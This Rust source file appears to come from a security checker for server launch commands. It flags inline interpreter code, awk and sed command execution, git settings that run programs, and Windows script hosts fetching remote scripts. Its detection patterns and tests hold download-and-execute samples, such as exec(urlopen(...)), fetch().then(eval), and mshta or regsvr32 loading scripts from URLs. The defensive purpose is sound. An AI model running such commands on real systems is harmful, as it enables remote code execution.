//! STDIO-001: shells and interpreters given code inline. Each interpreter's own options are
//! read with its grammar: options that take a value swallow it (`bash -o pipefail -c`,
//! `python -W ignore -c`), short options may be bundled (`python -Sc`, `node -pe`,
//! `perl -ne`), and the scan stops at the script, the module or `--`, since what follows
//! belongs to the program being run.

use super::launch::{Arg, SHELLS, family, program};
use super::{Level, Sink};

/// How one interpreter reads its options.
struct Grammar {
    /// Short option letters that mean inline code.
    code: &'static str,
    /// Short option letters taking a value: the rest of the cluster, or the next element.
    valued: &'static str,
    /// Short option letters after which the module or script follows (`python -m`).
    stop: &'static str,
    /// Long options that mean inline code (`--eval`, `--command`).
    code_long: &'static [&'static str],
    /// Long options taking a value (unless written `--opt=value`).
    valued_long: &'static [&'static str],
}

const SHELL: Grammar = Grammar {
    code: "c",
    valued: "oO",
    stop: "",
    code_long: &["--command", "--init-command"],
    valued_long: &["--rcfile", "--init-file"],
};
const FISH: Grammar = Grammar {
    code: "cC",
    valued: "d",
    stop: "",
    code_long: &["--command", "--init-command"],
    valued_long: &["--debug", "--debug-output", "--features"],
};
const PYTHON: Grammar = Grammar {
    code: "c",
    valued: "WXQ",
    stop: "m",
    code_long: &[],
    valued_long: &["--check-hash-based-pycs"],
};
const NODE: Grammar = Grammar {
    code: "ep",
    valued: "rC",
    stop: "",
    code_long: &["--eval", "--print"],
    valued_long: &[
        "--require",
        "--import",
        "--loader",
        "--experimental-loader",
        "--conditions",
        "--input-type",
        "--title",
        "--env-file",
    ],
};
const PERL: Grammar = Grammar {
    code: "eE",
    valued: "IMmdDxiC",
    stop: "",
    code_long: &[],
    valued_long: &[],
};
const RUBY: Grammar = Grammar {
    code: "e",
    valued: "IrCEKTxW",
    stop: "",
    code_long: &[],
    valued_long: &["--encoding", "--external-encoding", "--internal-encoding"],
};
const PHP: Grammar = Grammar {
    code: "rBRE",
    valued: "dcz",
    stop: "fF",
    code_long: &[
        "--run",
        "--process-begin",
        "--process-code",
        "--process-end",
    ],
    valued_long: &["--define", "--php-ini", "--zend-extension"],
};
const LAUNCHER: Grammar = Grammar {
    code: "c",
    valued: "pw",
    stop: "",
    code_long: &["--call"],
    valued_long: &[
        "--package",
        "--registry",
        "--cache",
        "--userconfig",
        "--workspace",
    ],
};

/// Other interpreters whose `-e` is code (Lua, R, Julia, AppleScript).
const DASH_E: Grammar = Grammar {
    code: "e",
    valued: "l",
    stop: "",
    code_long: &["--eval"],
    valued_long: &[],
};

/// Whether `argv[i]` is where a command is: the first element, or right after a wrapper
/// (`nohup script -c …`). Programs named like common words count only there.
fn command_position(argv: &[Arg<'_>], i: usize) -> bool {
    i == 0 || super::reach::PASS_THROUGH.contains(&program(argv[i - 1].text).as_str())
}

/// `script -c CMD` and `expect -c CMD`: a command string for a shell or Tcl.
const SCRIPT: Grammar = Grammar {
    code: "c",
    valued: "IOBTE",
    stop: "",
    code_long: &["--command"],
    valued_long: &[
        "--log-io",
        "--log-in",
        "--log-out",
        "--log-timing",
        "--echo",
        "--output-limit",
    ],
};

/// An awk program is code: it runs commands when it calls `system()`, pipes to or from a
/// command (`print | "cmd"`, `"cmd" | getline`), and gawk loads extensions with `-l`. The
/// program is the first operand, or `-e`/`--source` text; `-f FILE` is a script file.
fn awk<'a>(rest: &[Arg<'a>]) -> Option<Arg<'a>> {
    let runs = |t: &str| t.contains("system") || t.contains('|') || t.contains("getline");
    let mut i = 0;
    while let Some(a) = rest.get(i) {
        let t = a.text;
        let (flag, inline) = t.split_once('=').map_or((t, None), |(f, v)| (f, Some(v)));
        match flag {
            "-l" | "--load" => return Some(*a),
            "-e" | "--source" => {
                let code = inline.or_else(|| rest.get(i + 1).map(|n| n.text))?;
                if runs(code) {
                    return Some(*a);
                }
                i += if inline.is_some() { 1 } else { 2 };
            }
            "-f" | "--file" => return None,
            "-F" | "-v" | "--field-separator" | "--assign" | "-i" | "--include" => {
                i += if inline.is_some() { 1 } else { 2 }
            }
            "--" => return rest.get(i + 1).filter(|n| runs(n.text)).copied(),
            _ if t.starts_with("-l") && t.len() > 2 => return Some(*a),
            _ if t.starts_with('-') && t.len() > 1 => i += 1,
            _ => return runs(t).then_some(*a),
        }
    }
    None
}

/// `vim -c CMD`, `+CMD`, `--cmd CMD`, `-S FILE`: editor commands, which can run a shell (`:!`).
fn editor_commands<'a>(rest: &[Arg<'a>]) -> Option<Arg<'a>> {
    rest.iter()
        .find(|r| {
            matches!(r.text, "-c" | "--cmd" | "-S" | "-s" | "-u")
                || (r.text.starts_with('+') && r.text.len() > 1)
        })
        .copied()
}

/// git settings on the command line whose value is a program git runs
/// (`core.sshCommand`, `core.pager`, `credential.helper`, `alias.x=!cmd`, filters and
/// diff drivers, hooks) or another configuration to load (`include.path`).
fn git_config<'a>(rest: &[Arg<'a>]) -> Option<Arg<'a>> {
    let mut prev = "";
    for a in rest {
        let setting = match a.text.strip_prefix("-c") {
            Some("") => None,
            Some(v) => Some(v),
            None if prev == "-c" || prev == "--config-env" => Some(a.text),
            None => a.text.strip_prefix("--config-env="),
        };
        // `--exec-path=DIR` runs git's subcommands from DIR.
        if setting.is_some_and(git_setting_runs) || a.text.starts_with("--exec-path=") {
            return Some(*a);
        }
        if !a.text.starts_with('-') && prev != "-c" && prev != "--config-env" {
            return None;
        }
        prev = a.text;
    }
    None
}

/// Whether one `key=value` git setting makes git run a program or read other configuration.
fn git_setting_runs(kv: &str) -> bool {
    let (key, value) = kv.split_once('=').unwrap_or((kv, ""));
    let key = key.to_ascii_lowercase();
    let last = key.rsplit('.').next().unwrap_or("");
    const RUNNING: &[&str] = &[
        "sshcommand",
        "pager",
        "editor",
        "fsmonitor",
        "hookspath",
        "askpass",
        "helper",
        "external",
        "program",
        "textconv",
        "command",
        "driver",
        "process",
        "clean",
        "smudge",
        "packobjectshook",
        "gitproxy",
        "path",
        "allow",
        "cmd",
        "tool",
    ];
    value.trim_start().starts_with('!') || RUNNING.contains(&last) || key.starts_with("includeif")
}

/// An ssh option that runs a local command (`-o ProxyCommand=…`, `LocalCommand`,
/// `KnownHostsCommand`, `Match exec`), in whatever argument it appears (`ssh -o`, `scp -o`,
/// `rsync -e "ssh -o …"`, `git -c core.sshCommand` is git's).
fn command_option(t: &str) -> bool {
    let lower = t.to_ascii_lowercase();
    [
        "proxycommand",
        "localcommand",
        "knownhostscommand",
        "match exec",
    ]
    .iter()
    .any(|k| lower.contains(k))
}

/// PowerShell parameters that take a value (lower case, with their usual short forms).
const PS_VALUED: &[&str] = &[
    "executionpolicy",
    "ep",
    "ex",
    "windowstyle",
    "w",
    "version",
    "v",
    "inputformat",
    "if",
    "inp",
    "outputformat",
    "of",
    "o",
    "configurationname",
    "workingdirectory",
    "wd",
    "settingsfile",
    "psconsolefile",
    "custompipename",
];

pub fn check(argv: &[Arg<'_>], sink: &mut Sink<'_>) {
    // Programs whose check searches the whole rest of the argv: once one found nothing,
    // a later one of the same name (whose rest is a suffix) cannot, so each is searched
    // once and a long launch costs its length, not its square.
    let mut searched: Vec<String> = Vec::new();
    for (i, a) in argv.iter().enumerate() {
        let p = unversioned(program(a.text));
        let f = family(&p);
        if matches!(
            f,
            "find" | "xargs" | "vi" | "vim" | "nvim" | "ex" | "view" | "gvim"
        ) {
            if searched.contains(&p) {
                continue;
            }
            searched.push(p.clone());
        }
        let sub = matches!(p.as_str(), "npm" | "pnpm" | "yarn" | "bun")
            && argv
                .get(i + 1)
                .is_some_and(|r| matches!(r.text, "exec" | "x" | "dlx"));
        let rest = &argv[i + 1 + usize::from(sub)..];
        if let Some(url) = script_host_fetch(f, rest) {
            sink.add(
                "STDIO-003",
                Level::Block,
                url.span,
                format!("`{}` runs a script straight from `{}`", a.text, url.text),
            )
            .help("ship the server's code in the bundle or pin its package; never run what a URL serves");
            return;
        }
        let hit = match f {
            "cmd" => cmd(rest),
            "powershell" | "pwsh" => powershell(rest, f == "powershell"),
            "deno" => rest.first().filter(|r| r.text == "eval").copied(),
            "fish" => scan(&FISH, rest),
            "python" => scan(&PYTHON, rest),
            "node" | "bun" | "tsx" | "ts-node" | "zx" => scan(&NODE, rest),
            "perl" => scan(&PERL, rest),
            "ruby" => scan(&RUBY, rest),
            "php" => scan(&PHP, rest),
            "lua" | "luajit" | "rscript" | "julia" | "osascript" => scan(&DASH_E, rest),
            "expect" | "script" if command_position(argv, i) => scan(&SCRIPT, rest),
            "awk" | "gawk" | "mawk" | "nawk" => awk(rest),
            "find" => rest
                .iter()
                .find(|r| matches!(r.text, "-exec" | "-execdir" | "-ok" | "-okdir"))
                .copied(),
            "vi" | "vim" | "nvim" | "gvim" => editor_commands(rest),
            // Common words elsewhere; editors only as the command.
            "ex" | "view" if command_position(argv, i) => editor_commands(rest),
            "git" => git_config(rest),
            "mshta" | "rundll32" => rest.iter().find(|r| script_url_scheme(r.text)).copied(),
            "sed" | "gsed" => sed_exec(rest),
            "xargs" => rest
                .iter()
                .find(|r| SHELLS.contains(&family(&program(r.text))))
                .copied(),
            _ if command_option(a.text) => Some(*a),
            _ if SHELLS.contains(&f) => scan(&SHELL, rest),
            _ if matches!(p.as_str(), "npx" | "pnpx" | "bunx") || sub => scan(&LAUNCHER, rest),
            _ => None,
        };
        if let Some(flag) = hit {
            sink.add("STDIO-001", Level::High, flag.span, format!("`{}` is given inline code with `{}`", a.text, flag.text))
                .help("launch the server's executable or package directly, with its arguments as separate elements");
            if let Some(code) = rest.iter().find(|r| code_downloads_and_runs(r.text)) {
                sink.add(
                    "STDIO-003",
                    Level::Block,
                    code.span,
                    format!("the inline code of `{}` downloads code and runs it", a.text),
                )
                .help("ship the server's code in the bundle or pin its package; never run what a URL serves");
            }
            return;
        }
    }
}

/// `javascript:` or `vbscript:` code handed to a Windows script host (`mshta`, `rundll32`).
fn script_url_scheme(t: &str) -> bool {
    let lower = t.to_ascii_lowercase();
    lower.contains("javascript:") || lower.contains("vbscript:")
}

/// Windows script hosts that fetch what they run: `mshta https://…`, and
/// `regsvr32 /i:https://… scrobj.dll` (a scriptlet from a URL).
fn script_host_fetch<'a>(f: &str, rest: &[Arg<'a>]) -> Option<Arg<'a>> {
    let url = |t: &str| {
        let t = t.to_ascii_lowercase();
        t.starts_with("http://") || t.starts_with("https://") || t.starts_with("\\\\")
    };
    match f {
        "mshta" => rest.iter().find(|r| url(r.text)).copied(),
        "regsvr32" => rest
            .iter()
            .find(|r| {
                let t = r.text.to_ascii_lowercase();
                ["/i:", "-i:"]
                    .iter()
                    .any(|p| t.strip_prefix(p).is_some_and(&url))
            })
            .copied(),
        _ => None,
    }
}

/// GNU sed's `e` command, which runs a shell command: `1e id`, `/x/e cmd`, and the `s`
/// command's `e` flag (`s/x/y/e` runs the pattern space). The script is `-e SCRIPT`,
/// `--expression=SCRIPT`, or the first operand.
fn sed_exec<'a>(rest: &[Arg<'a>]) -> Option<Arg<'a>> {
    let mut i = 0;
    while let Some(a) = rest.get(i) {
        let t = a.text;
        let script = match t {
            "-e" | "--expression" => {
                i += 1;
                rest.get(i).map(|n| n.text)
            }
            _ if t.starts_with("--expression=") => t.split_once('=').map(|(_, v)| v),
            _ if t.starts_with("-e") && !t.starts_with("--") => Some(&t[2..]),
            "-f" | "--file" | "-l" | "--line-length" => {
                i += 2;
                continue;
            }
            _ if t.starts_with('-') => {
                i += 1;
                continue;
            }
            _ => Some(t),
        };
        if script.is_some_and(sed_script_runs) {
            return Some(*a);
        }
        if !t.starts_with('-') {
            return None; // the first operand was the script; the rest are files
        }
        i += 1;
    }
    None
}

/// Whether a sed script has an `e` command or an `s` command with the `e` flag.
fn sed_script_runs(script: &str) -> bool {
    script.split([';', '\n']).any(|cmd| {
        let cmd = cmd.trim_start();
        // Skip an address: line numbers, `$`, `,`, `~`, `!`, and `/regex/`.
        let mut rest = cmd.trim_start_matches(|c: char| c.is_ascii_digit() || "$,~! ".contains(c));
        while let Some(r) = rest.strip_prefix('/') {
            rest = r.split_once('/').map_or("", |(_, after)| after);
            rest = rest.trim_start_matches(|c: char| c.is_ascii_digit() || "$,~! ".contains(c));
        }
        if rest == "e" || rest.starts_with("e ") {
            return true;
        }
        let Some(body) = rest.strip_prefix('s') else {
            return false;
        };
        let Some(delim) = body.chars().next() else {
            return false;
        };
        let parts: Vec<&str> = body[delim.len_utf8()..].splitn(3, delim).collect();
        parts.len() == 3
            && parts[2]
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric())
                .any(|c| c == 'e')
    })
}

/// Whether inline code both names a URL and evaluates or runs what it gets: `exec(urlopen(…))`,
/// `fetch(…).then(eval)`, `eval URI.open(…)`, `iex (iwr …)`, `load(http…)`. This reads an
/// interpreter's code; shell statements (`curl … | sh`) are `fetch::fetches_and_runs`'s.
fn code_downloads_and_runs(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    const RUNNERS: &[&str] = &[
        "eval",
        "exec(",
        "exec ",
        "function(",
        "import(",
        "iex",
        "invoke-expression",
        "runpy",
        "load(",
        "loadstring",
        "compile(",
        "system(",
        "popen",
        "spawn",
        "child_process",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
    ];
    ["http://", "https://", "ftp://"]
        .iter()
        .any(|u| lower.contains(u))
        && RUNNERS.iter().any(|r| lower.contains(r))
}

/// The option of `rest` that gives inline code, read with grammar `g`.
fn scan<'a>(g: &Grammar, rest: &[Arg<'a>]) -> Option<Arg<'a>> {
    let mut i = 0;
    while let Some(a) = rest.get(i) {
        let t = a.text;
        if t == "--" || t == "-" || !(t.starts_with('-') || t.starts_with('+')) {
            return None;
        }
        if let Some(long) = t.strip_prefix("--") {
            let (name, inline) = long
                .split_once('=')
                .map_or((long, false), |(n, _)| (n, true));
            let name = format!("--{name}");
            if g.code_long.contains(&name.as_str()) {
                return Some(*a);
            }
            let valued = g.valued_long.contains(&name.as_str());
            let value = match long.split_once('=') {
                Some((_, v)) => Some(v),
                None if valued => rest.get(i + 1).map(|n| n.text),
                None => None,
            };
            // `--import data:text/javascript,…` is code written into the argument.
            if valued
                && value.is_some_and(|v| v.trim_start().to_ascii_lowercase().starts_with("data:"))
            {
                return Some(*a);
            }
            i += if valued && !inline { 2 } else { 1 };
            continue;
        }
        let cluster = &t[1..];
        let mut used = 1;
        for (at, c) in cluster.char_indices() {
            if g.code.contains(c) {
                return Some(*a);
            }
            if g.stop.contains(c) {
                return None;
            }
            if g.valued.contains(c) {
                if at + c.len_utf8() == cluster.len() {
                    used = 2;
                }
                break;
            }
        }
        i += used;
    }
    None
}

/// A package launched at a version (`npx -y node@20.11.1`, `tsx@4.19.2`, `zx@latest`)
/// is the program of that name: an interpreter started by a launcher keeps its grammar.
fn unversioned(p: String) -> String {
    match p.split_once('@') {
        Some((name, v))
            if !name.is_empty()
                && (v
                    .trim_start_matches(['v', '^', '~', '='])
                    .starts_with(|c: char| c.is_ascii_digit())
                    || matches!(v, "latest" | "lts" | "next")) =>
        {
            name.to_string()
        }
        _ => p,
    }
}

/// `cmd /c …`, `/k`, also joined (`/cecho`) and among other switches (`/q /s /c`).
fn cmd<'a>(rest: &[Arg<'a>]) -> Option<Arg<'a>> {
    rest.iter()
        .take_while(|r| r.text.starts_with('/') || r.text.starts_with('-'))
        .find(|r| {
            let t = r.text.to_ascii_lowercase();
            t.starts_with("/c") || t.starts_with("/k") || t == "-c"
        })
        .copied()
}

/// PowerShell: `-Command`, `-EncodedCommand` and their prefixes (`-c`, `-e`, `-enc`,
/// `-Command:…`), after parameters that take values. Windows PowerShell also runs a bare
/// first argument as a command.
fn powershell<'a>(rest: &[Arg<'a>], windows: bool) -> Option<Arg<'a>> {
    let mut i = 0;
    while let Some(a) = rest.get(i) {
        let t = a.text.to_ascii_lowercase();
        let Some(name) = t.strip_prefix(['-', '/']) else {
            return windows.then_some(*a);
        };
        let name = name.split(':').next().unwrap_or(name);
        if name.is_empty() {
            return None;
        }
        if "command".starts_with(name)
            || "encodedcommand".starts_with(name)
            || matches!(name, "ec" | "commandwithargs" | "cwa")
        {
            return Some(*a);
        }
        if "file".starts_with(name) {
            return None;
        }
        i += if PS_VALUED.contains(&name) { 2 } else { 1 };
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::launch::test_argv;

    #[test]
    fn inline_code_that_downloads_and_runs() {
        assert!(code_downloads_and_runs(
            "fetch('https://x.example/s.js').then(r=>r.text()).then(eval)"
        ));
        assert!(code_downloads_and_runs(
            "import urllib.request;exec(urllib.request.urlopen('https://x.example/p').read())"
        ));
        assert!(code_downloads_and_runs(
            "eval URI.open('https://x.example/s.rb').read"
        ));
        assert!(!code_downloads_and_runs(
            "print('see https://x.example for docs')"
        ));
        assert!(!code_downloads_and_runs("import server; server.main()"));
    }

    #[test]
    fn awk_programs_that_run_commands() {
        assert!(awk(&test_argv(&["BEGIN{system(\"id\")}"])).is_some());
        assert!(awk(&test_argv(&["-v", "x=1", "{ \"date\" | getline d }"])).is_some());
        assert!(awk(&test_argv(&["-l", "filefuncs", "{print}"])).is_some());
        assert!(awk(&test_argv(&["-F", ":", "{print $1}", "f"])).is_none());
        assert!(awk(&test_argv(&["-f", "x.awk", "f"])).is_none());
    }

    #[test]
    fn git_settings_that_run_programs() {
        assert!(git_setting_runs("core.sshCommand=ssh -i k"));
        assert!(git_setting_runs("alias.x=!sh"));
        assert!(git_setting_runs("filter.lfs.smudge=x"));
        assert!(!git_setting_runs("color.ui=never"));
        assert!(!git_setting_runs("user.name=Bot"));
        assert!(git_config(&test_argv(&["-c", "core.pager=sh", "log"])).is_some());
        assert!(git_config(&test_argv(&["--exec-path=/tmp", "status"])).is_some());
        assert!(git_config(&test_argv(&["log", "-c", "core.pager=sh"])).is_none());
    }
    #[test]
    fn a_launched_package_at_a_version_is_its_program() {
        assert_eq!(unversioned("node@20.11.1".into()), "node");
        assert_eq!(unversioned("tsx@latest".into()), "tsx");
        assert_eq!(unversioned("zx@^8".into()), "zx");
        assert_eq!(unversioned("git@github.com:x".into()), "git@github.com:x");
        assert_eq!(unversioned("@scope".into()), "@scope");
    }

    #[test]
    fn sed_scripts_that_run_commands() {
        for script in ["1e id", "/x/e cmd", "s/x/y/e", "s|a|b|ge", "p;e"] {
            assert!(sed_script_runs(script), "{script}");
        }
        for script in ["s/foo/bar/g", "/e/d", "s/e/E/", "1,5p", "$d", "s/x/y/w out"] {
            assert!(!sed_script_runs(script), "{script}");
        }
    }

    #[test]
    fn windows_script_hosts() {
        assert!(script_host_fetch("mshta", &test_argv(&["https://x.example/a.hta"])).is_some());
        assert!(
            script_host_fetch(
                "regsvr32",
                &test_argv(&["/s", "/i:https://x/a.sct", "scrobj.dll"])
            )
            .is_some()
        );
        assert!(script_host_fetch("regsvr32", &test_argv(&["/s", "local.dll"])).is_none());
        assert!(script_url_scheme(
            "javascript:\\..\\mshtml,RunHTMLApplication"
        ));
        assert!(!script_url_scheme("shell32.dll,Control_RunDLL"));
    }
}
